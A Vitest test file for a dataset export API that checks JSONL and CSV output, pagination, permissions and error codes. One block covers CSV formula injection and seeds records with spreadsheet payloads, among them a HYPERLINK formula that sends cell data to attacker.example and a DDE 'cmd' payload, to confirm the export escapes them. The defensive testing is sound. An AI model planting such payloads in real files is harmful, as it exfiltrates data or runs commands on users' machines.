import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { TestApi } from '../../../test/api-client.js';
import { seedDataset, type SeededDataset } from '../../../test/dataset-fixtures.js';
import { addMember, createPrincipals, createUser, FORBIDDEN, UNAUTHORIZED, type Principals, type TestUser } from '../../../test/fixtures.js';
import { clientOf, type PrincipalName } from '../../../test/policy-matrix.js';
import { startTestServer, OWNER, type TestServer } from '../../../test/test-server.js';
import { parseCsv } from '../../../test/csv-reader.js';

let server: TestServer;
let api: TestApi;
let principals: Principals;
let annotator2: TestUser;
let dataset: SeededDataset;
let datasetName: string;
let recordIds: string[];

const labels = (values: string[]) => values.map((value) => ({ value, text: value, description: null }));
const answer = (values: Record<string, unknown>) => Object.fromEntries(Object.entries(values).map(([k, v]) => [k, { value: v }]));

async function respond(user: TestUser, recordId: string, values: Record<string, unknown>, status = 'submitted') {
  const res = await user.api.post(`/records/${recordId}/responses`, { status, values: answer(values) });
  expect(res.status, JSON.stringify(res.body)).toBe(201);
}

/** The export as text (TestApi parses a JSON body: every export here has two lines or more). */
async function download(client: TestApi, format: string) {
  const res = await client.get(`/datasets/${dataset.id}/records/export?format=${format}`);
  expect(res.status, JSON.stringify(res.body)).toBe(200);
  expect(typeof res.body).toBe('string');
  return { text: res.body as string, headers: res.headers };
}

beforeAll(async () => {
  server = await startTestServer();
  api = new TestApi(server.url).as({ apiKey: OWNER.apiKey });
  principals = await createPrincipals(api);
  annotator2 = await createUser(api, { role: 'annotator' });
  await addMember(api, principals.workspace.id, annotator2.id);

  datasetName = `export-${Date.now()}`;
  dataset = await seedDataset(server.app.database.db, server.app.database.dialect, {
    workspaceId: principals.workspace.id,
    name: datasetName,
    minSubmitted: 2,
    fields: [{ name: 'text', required: true }],
    questions: [
      { name: 'label', required: true, settings: { type: 'label_selection', options: labels(['positive', 'negative']), visible_options: 2 } },
      { name: 'topics', settings: { type: 'multi_label_selection', options: labels(['sports', 'tech']), visible_options: 2, options_order: 'natural' } },
    ],
    metadata: [{ name: 'split', settings: { type: 'terms', values: ['train', 'test'] } }],
  });
  const q = dataset.questionIds;
  const items = [
    {
      external_id: 'first',
      fields: { text: 'a,"b"\nc' },
      metadata: { split: 'train' },
      suggestions: [
        { question_id: q.label, value: 'positive', score: 0.9, agent: 'model-a' },
        { question_id: q.topics, value: ['tech'], agent: 'model-b' },
      ],
    },
    { external_id: 'second', fields: { text: 'plain' }, metadata: { split: 'test' } },
    { fields: { text: 'untouched' } },
  ];
  const res = await api.put(`/datasets/${dataset.id}/records/bulk`, { items });
  expect(res.status, JSON.stringify(res.body)).toBe(200);
  recordIds = res.body.items.map((item: { id: string }) => item.id);

  await respond(principals.annotatorMember, recordIds[0], { label: 'positive', topics: ['tech'] });
  await respond(annotator2, recordIds[0], { label: 'negative' });
  await respond(principals.annotatorMember, recordIds[1], { label: 'negative' });
  await respond(annotator2, recordIds[1], { label: 'positive' }, 'draft');
  const validation = await principals.adminMember.api.put(`/records/${recordIds[0]}/validation`, { values: answer({ label: 'positive', topics: ['tech', 'sports'] }) });
  expect(validation.status, JSON.stringify(validation.body)).toBe(200);
});
afterAll(() => server.close());

describe('GET /datasets/{id}/records/export?format=jsonl', () => {
  it('streams one JSON line per record with fields, metadata, suggestions, submitted responses and final answers', async () => {
    const { text, headers } = await download(api, 'jsonl');
    expect(headers.get('content-type')).toBe('application/x-ndjson; charset=utf-8');
    expect(headers.get('content-disposition')).toBe(`attachment; filename="${datasetName}.jsonl"`);
    expect(headers.get('transfer-encoding')).toBe('chunked'); // streamed, not built whole first
    expect(text.endsWith('\n')).toBe(true);
    const rows = text.trimEnd().split('\n').map((line) => JSON.parse(line));
    expect(rows).toHaveLength(3);

    const alice = { user_id: principals.annotatorMember.id, username: principals.annotatorMember.username, status: 'submitted' };
    const bob = { user_id: annotator2.id, username: annotator2.username, status: 'submitted' };
    expect(rows[0]).toEqual({
      id: recordIds[0],
      external_id: 'first',
      status: 'validated',
      text: 'a,"b"\nc',
      'metadata.split': 'train',
      'label.suggestion': 'positive',
      'label.suggestion.score': 0.9,
      'label.suggestion.agent': 'model-a',
      'label.responses': [
        { ...alice, value: 'positive' },
        { ...bob, value: 'negative' },
      ],
      'label.validated': 'positive',
      'topics.suggestion': ['tech'],
      'topics.suggestion.score': null,
      'topics.suggestion.agent': 'model-b',
      'topics.responses': [{ ...alice, value: ['tech'] }],
      'topics.validated': ['tech', 'sports'],
      validated_by: principals.adminMember.id,
      validated_at: expect.stringMatching(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d/),
    });
    // A draft is not an answer yet; one submitted response of two is not enough to complete the record.
    expect(rows[1]).toMatchObject({
      id: recordIds[1],
      external_id: 'second',
      status: 'pending',
      'label.suggestion': null,
      'label.responses': [{ ...alice, value: 'negative' }],
      'label.validated': null,
      'topics.responses': [],
      validated_by: null,
      validated_at: null,
    });
    expect(rows[2]).toMatchObject({ id: recordIds[2], external_id: null, status: 'pending', text: 'untouched', 'metadata.split': null });
  });
});

describe('GET /datasets/{id}/records/export?format=csv', () => {
  it('writes a header row and one quoted row per record', async () => {
    const { text, headers } = await download(principals.adminMember.api, 'csv');
    expect(headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(headers.get('content-disposition')).toBe(`attachment; filename="${datasetName}.csv"`);
    expect(text.startsWith('id,external_id,status,text,metadata.split,')).toBe(true); // no byte-order mark
    expect(text).toContain('"a,""b""\nc"');

    const [header, ...rows] = parseCsv(text);
    expect(header).toEqual([
      'id', 'external_id', 'status', 'text', 'metadata.split',
      'label.suggestion', 'label.suggestion.score', 'label.suggestion.agent', 'label.responses', 'label.validated',
      'topics.suggestion', 'topics.suggestion.score', 'topics.suggestion.agent', 'topics.responses', 'topics.validated',
      'validated_by', 'validated_at',
    ]);
    expect(rows).toHaveLength(3);
    const first = Object.fromEntries(header.map((column, i) => [column, rows[0][i]]));
    expect(first).toMatchObject({
      id: recordIds[0],
      external_id: 'first',
      status: 'validated',
      text: 'a,"b"\nc',
      'metadata.split': 'train',
      'label.suggestion': 'positive',
      'label.suggestion.score': '0.9',
      'label.responses': '["positive","negative"]',
      'label.validated': 'positive',
      'topics.suggestion': '["tech"]',
      'topics.suggestion.score': '',
      'topics.responses': '[["tech"]]',
      'topics.validated': '["tech","sports"]',
      validated_by: principals.adminMember.id,
    });
    const third = Object.fromEntries(header.map((column, i) => [column, rows[2][i]]));
    expect(third).toMatchObject({ external_id: '', status: 'pending', 'label.responses': '[]', 'label.validated': '', validated_by: '' });
  });

  it('reads the records a page at a time, in insertion order', async () => {
    const big = await seedDataset(server.app.database.db, server.app.database.dialect, { workspaceId: principals.workspace.id, fields: [{ name: 'text', required: true }] });
    const items = Array.from({ length: 1_205 }, (_, i) => ({ external_id: `r${i}`, fields: { text: `record ${i}` } }));
    for (let start = 0; start < items.length; start += 500) {
      const res = await api.put(`/datasets/${big.id}/records/bulk`, { items: items.slice(start, start + 500) });
      expect(res.status, JSON.stringify(res.body)).toBe(200);
    }
    const res = await api.get(`/datasets/${big.id}/records/export?format=csv`);
    const rows = parseCsv(res.body as string).slice(1);
    expect(rows.map((row) => row[1])).toEqual(items.map((item) => item.external_id));
  });
});

describe('GET /datasets/{id}/records/export: cells a spreadsheet would run', () => {
  const formulas = ['=HYPERLINK("http://attacker.example/?"&A1,"open")', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1,2)', '\t=1+1', '\r=1+1'];
  let risky: SeededDataset;

  beforeAll(async () => {
    risky = await seedDataset(server.app.database.db, server.app.database.dialect, {
      workspaceId: principals.workspace.id,
      fields: [{ name: 'text', required: true }],
      metadata: [{ name: 'score', settings: { type: 'float', min: null, max: null } }],
    });
    const items = formulas.map((text, i) => ({ external_id: `=row${i}`, fields: { text }, metadata: { score: -1.5 } }));
    const res = await api.put(`/datasets/${risky.id}/records/bulk`, { items });
    expect(res.status, JSON.stringify(res.body)).toBe(200);
  });

  it("CSV prefixes ' to every cell that starts with = + - @ tab or CR; numbers stay numbers", async () => {
    const res = await api.get(`/datasets/${risky.id}/records/export?format=csv`);
    expect(res.status).toBe(200);
    const [header, ...rows] = parseCsv(res.body as string);
    const column = (name: string) => rows.map((row) => row[header.indexOf(name)]);
    expect(column('text')).toEqual(formulas.map((text) => `'${text}`));
    expect(column('external_id')).toEqual(formulas.map((_, i) => `'=row${i}`));
    expect(column('metadata.score')).toEqual(formulas.map(() => '-1.5'));
  });

  it('JSON Lines keeps the values as they were written', async () => {
    const res = await api.get(`/datasets/${risky.id}/records/export?format=jsonl`);
    expect(res.status).toBe(200);
    const rows = (res.body as string).trimEnd().split('\n').map((line) => JSON.parse(line));
    expect(rows.map((row) => row.text)).toEqual(formulas);
    expect(rows.map((row) => row.external_id)).toEqual(formulas.map((_, i) => `=row${i}`));
  });
});

describe('GET /datasets/{id}/records/export refusals', () => {
  it('answers 422 with a detail for an unknown format, and a validation error without one', async () => {
    const res = await api.get(`/datasets/${dataset.id}/records/export?format=xlsx`);
    expect(res.status).toBe(422);
    expect(res.body).toEqual({ detail: 'Unknown export format `xlsx`: use one of jsonl, csv' });
    const missing = await api.get(`/datasets/${dataset.id}/records/export`);
    expect(missing.status).toBe(422);
    expect(missing.body).toHaveProperty('detail');
  });

  it('answers 404 for an unknown dataset', async () => {
    const res = await api.get('/datasets/00000000-0000-4000-8000-000000000000/records/export?format=jsonl');
    expect(res.status).toBe(404);
    expect(res.body).toEqual({ detail: 'Dataset with id `00000000-0000-4000-8000-000000000000` not found' });
  });

  const expected: [PrincipalName, number][] = [
    ['owner', 200],
    ['adminMember', 200],
    ['adminOutsider', 403],
    ['annotatorMember', 403],
    ['annotatorOutsider', 403],
    ['anonymous', 401],
  ];
  it.each(expected)('%s gets %i', async (principal, status) => {
    const res = await clientOf(principals, principal).get(`/datasets/${dataset.id}/records/export?format=csv`);
    expect(res.status).toBe(status);
    if (status === 403) expect(res.body).toEqual(FORBIDDEN);
    if (status === 401) expect(res.body).toEqual(UNAUTHORIZED);
  });
});
